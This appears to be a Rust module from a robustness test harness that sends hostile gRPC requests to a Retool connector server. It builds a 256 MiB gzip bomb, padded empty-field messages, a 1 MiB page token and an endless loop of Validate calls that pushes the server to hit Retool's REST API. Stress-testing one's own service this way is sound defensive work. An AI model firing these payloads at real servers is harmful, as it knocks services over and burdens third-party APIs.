//! Requests that are small on the wire and large in memory.

use std::io::Write;
use std::sync::LazyLock;

use flate2::Compression;
use flate2::write::GzEncoder;
use prost::bytes::Bytes;

use crate::hostile::{Attack, Kind, Target, with_token};
use crate::raw::framed;

const MIB: usize = 1024 * 1024;

pub(super) const KINDS: [Kind; 5] = [
    Kind { name: "empty tickets in gzip", callers: 2, attack: |target| send(target, &TICKETS) },
    Kind { name: "empty annotations", callers: 2, attack: |target| send(target, &ANNOTATIONS) },
    Kind { name: "gzip bombs", callers: 2, attack: |target| send(target, &BOMB) },
    Kind { name: "long page tokens", callers: 2, attack: |target| send(target, &TOKEN) },
    Kind { name: "Validate with endless answers of Retool's API", callers: 4, attack: validate },
];

/// A call: its path, and its body, which may be compressed.
type Call = LazyLock<(&'static str, Option<(&'static str, &'static str)>, Bytes)>;

const GZIP: Option<(&str, &str)> = Some(("grpc-encoding", "gzip"));

static TICKETS: Call = LazyLock::new(|| {
    ("c1.connector.v2.TicketsService/BulkCreateTickets", GZIP, in_gzip(&[0x0a, 0].repeat(MIB / 2 - 8)))
});
static ANNOTATIONS: Call = LazyLock::new(|| {
    ("c1.connector.v2.ConnectorService/Cleanup", None, framed(&[0x0a, 0].repeat(MIB / 2 - 8)))
});
static BOMB: Call =
    LazyLock::new(|| ("c1.connector.v2.GrantsService/ListGrants", GZIP, in_gzip(&vec![0; 256 * MIB])));
static TOKEN: Call = LazyLock::new(|| {
    // `page_token` of ListResourceTypes.
    let length = prost::encoding::encoded_len_varint(MIB as u64);
    let mut message = Vec::with_capacity(MIB + 1 + length);
    prost::encoding::encode_key(3, prost::encoding::WireType::LengthDelimited, &mut message);
    prost::encoding::encode_varint(MIB as u64, &mut message);
    message.resize(message.len() + MIB, b'x');
    ("c1.connector.v2.ResourceTypesService/ListResourceTypes", None, framed(&message))
});

/// Creates the requests.
pub(super) fn prepare() {
    for call in [&TICKETS, &ANNOTATIONS, &BOMB, &TOKEN] {
        LazyLock::force(call);
    }
}

/// Makes the call on a new connection.
fn send(target: Target, call: &'static Call) -> Attack {
    Box::pin(async move {
        let (path, header, body) = &**call;
        let headers: Vec<_> = header.iter().copied().collect();
        if let Some(raw) = with_token(target).await {
            // The result does not matter.
            let _ = raw.send(path, &headers, body.clone()).await;
        }
    })
}

/// Makes the server request Retool's REST API.
fn validate(target: Target) -> Attack {
    Box::pin(async move {
        let Some(raw) = with_token(target).await else { return };
        while raw.send("c1.connector.v2.ConnectorService/Validate", &[], framed(&[])).await.is_ok() {}
    })
}

/// A compressed gRPC frame of a message.
fn in_gzip(message: &[u8]) -> Bytes {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(message).expect("memory takes it");
    let compressed = encoder.finish().expect("memory takes it");
    let length = u32::try_from(compressed.len()).expect("a short message").to_be_bytes();
    [&[1], &length[..], &compressed].concat().into()
}
